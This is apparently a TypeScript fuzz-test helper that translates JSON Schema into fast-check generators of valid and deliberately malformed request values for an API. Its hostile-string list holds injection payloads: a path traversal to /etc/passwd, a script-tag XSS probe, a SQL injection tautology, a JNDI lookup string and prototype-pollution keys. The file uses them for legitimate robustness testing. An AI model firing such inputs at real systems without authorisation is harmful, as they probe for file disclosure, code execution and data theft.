// A small JSON Schema → fast-check translator for the fuzz test: valid values from the served OpenAPI document's schemas, and "valid-ish" ones with hostile leaves.
import fc from 'fast-check';

export type JsonSchema = { [keyword: string]: any };

/** Strings an attacker or a careless client sends: control and bidi characters, a lone surrogate, a card number, injection, sheer size. */
const hostileStrings = [
  '',
  ' ',
  '\u0000',
  'a\u202Eb',
  '\ud800',
  'line\nbreak',
  '4111 1111 1111 1111',
  '5555555555554444',
  '..',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  "' OR 1=1 --",
  '${jndi:ldap://x/a}',
  'x'.repeat(5_000),
];

const wrongTypes = [null, true, 12345, -1, 1.5, 'text', [], {}, [1, 2]];

export class SchemaArbitraries {
  constructor(private readonly components: Record<string, JsonSchema>) {}

  resolve(schema: JsonSchema): JsonSchema {
    if (typeof schema.$ref !== 'string') return schema;
    const name = schema.$ref.replace('#/components/schemas/', '');
    const target = this.components[name];
    if (!target) throw new Error(`unknown $ref ${schema.$ref}`);
    return this.resolve(target);
  }

  /** Values the schema accepts (as far as JSON Schema can say: the server may still refuse them, e.g. a duplicate sku). */
  valid(schema: JsonSchema): fc.Arbitrary<unknown> {
    const s = this.resolve(schema);
    if (Array.isArray(s.enum)) return fc.constantFrom(...(s.enum as unknown[]));
    if (s.const !== undefined) return fc.constant(s.const);
    if (Array.isArray(s.anyOf ?? s.oneOf)) return fc.oneof(...((s.anyOf ?? s.oneOf) as JsonSchema[]).map((option) => this.valid(option)));
    switch (s.type) {
      case 'string':
        return this.validString(s);
      case 'integer':
        return fc.integer({ min: s.minimum ?? -1_000_000, max: s.maximum ?? 1_000_000 });
      case 'number':
        return fc.double({ min: s.minimum ?? -1e6, max: s.maximum ?? 1e6, noNaN: true });
      case 'boolean':
        return fc.boolean();
      case 'array':
        return fc.array(this.valid(s.items ?? {}), { minLength: s.minItems ?? 0, maxLength: Math.min(s.maxItems ?? 5, 5) });
      case 'object':
        return this.object(s, (property) => this.valid(property), false);
      default:
        return fc.jsonValue({ maxDepth: 2 });
    }
  }

  /** Mostly valid, with now and then a hostile or wrongly typed leaf, an unknown field or a missing one. */
  validish(schema: JsonSchema): fc.Arbitrary<unknown> {
    const s = this.resolve(schema);
    const leaf = fc.oneof({ weight: 3, arbitrary: this.valid(s) }, { weight: 1, arbitrary: this.invalidLeaf(s) });
    if (s.type === 'object') return fc.oneof({ weight: 3, arbitrary: this.object(s, (property) => this.validish(property), true) }, { weight: 1, arbitrary: leaf });
    if (s.type === 'array') {
      const items = fc.array(this.validish(s.items ?? {}), { minLength: 0, maxLength: Math.min((s.maxItems ?? 5) + 1, 6) });
      return fc.oneof({ weight: 3, arbitrary: items }, { weight: 1, arbitrary: leaf });
    }
    return leaf;
  }

  /** What the schema refuses: the wrong type, a bound crossed, a hostile string. */
  invalidLeaf(schema: JsonSchema): fc.Arbitrary<unknown> {
    const s = this.resolve(schema);
    const outOfRange: unknown[] = [];
    if (s.type === 'integer' || s.type === 'number') {
      if (s.minimum !== undefined) outOfRange.push(s.minimum - 1);
      if (s.maximum !== undefined) outOfRange.push(s.maximum + 1);
      outOfRange.push(0.5, 1e308, -1e308);
    }
    if (s.type === 'string' && s.maxLength !== undefined) outOfRange.push('y'.repeat(s.maxLength + 1));
    return fc.constantFrom(...wrongTypes, ...hostileStrings, ...outOfRange);
  }

  private object(s: JsonSchema, property: (schema: JsonSchema) => fc.Arbitrary<unknown>, mayBreak: boolean): fc.Arbitrary<unknown> {
    const properties = (s.properties ?? {}) as Record<string, JsonSchema>;
    const model = Object.fromEntries(Object.entries(properties).map(([key, value]) => [key, property(value)]));
    const required = ((s.required ?? []) as string[]).filter((key) => key in model);
    const record = fc.record(model, { requiredKeys: mayBreak ? [] : required });
    if (!mayBreak) return record;
    // Now and then a field nobody declared, which additionalProperties: false refuses.
    return fc.tuple(record, fc.option(fc.constantFrom('coupon', '__proto__', 'constructor', 'x'.repeat(300)), { freq: 4 })).map(([value, extra]) =>
      extra === null ? value : { ...(value as object), [extra]: 1 },
    );
  }

  private validString(s: JsonSchema): fc.Arbitrary<string> {
    const minLength: number = s.minLength ?? 0;
    const maxLength: number = s.maxLength ?? 60;
    const fits = (value: string) => [...value].length >= minLength && [...value].length <= maxLength;
    if (s.format === 'uuid') return fc.uuid();
    if (s.format === 'email') return fc.constantFrom('ada@example.com', 'grace.hopper@example.org', 'x@y.co');
    if (typeof s.pattern === 'string') {
      const pattern = new RegExp(s.pattern, 'u');
      let matching: fc.Arbitrary<string>;
      try {
        matching = fc.stringMatching(pattern);
      } catch {
        matching = fc.string({ unit: 'grapheme', minLength, maxLength }).filter((value) => pattern.test(value));
      }
      return matching.filter((value) => fits(value) && pattern.test(value));
    }
    return fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(maxLength, 60) }).filter((value) => value.trim().length >= minLength);
  }
}
